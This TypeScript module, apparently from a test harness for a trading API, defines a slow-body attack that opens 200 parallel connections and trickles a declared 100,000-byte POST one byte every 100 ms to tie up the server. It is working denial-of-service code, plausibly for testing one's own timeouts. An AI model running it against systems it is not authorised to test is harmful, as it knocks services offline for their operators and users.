import { connect } from 'node:net'
import { type Attack, sendInParallel, type Target } from './attack.ts'

const SENDING_MS = 5000
const PAUSE_MS = 100

/** Connections that send their body byte by byte, for five seconds. */
export const slowAttacks: Attack[] = [
  { name: '200 slow bodies', send: (target) => sendInParallel(200, () => sendSlowly(target)) },
]

function sendSlowly({ url, cookie }: Target): Promise<string> {
  const { hostname, port } = new URL(url)
  return new Promise((done) => {
    const socket = connect(Number(port), hostname)
    let answer = 'still reading'
    socket.on('data', (bytes) => (answer = bytes.toString().slice(9, 12)))
    socket.on('error', () => (answer = 'closed'))
    socket.on('close', () => done(answer))
    socket.write(
      `POST /api/v1/trades HTTP/1.1\r\nHost: ${hostname}\r\nCookie: ${cookie}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n',
    )
    const timer = setInterval(() => socket.write(' '), PAUSE_MS)
    setTimeout(() => {
      clearInterval(timer)
      socket.destroy()
    }, SENDING_MS)
  })
}
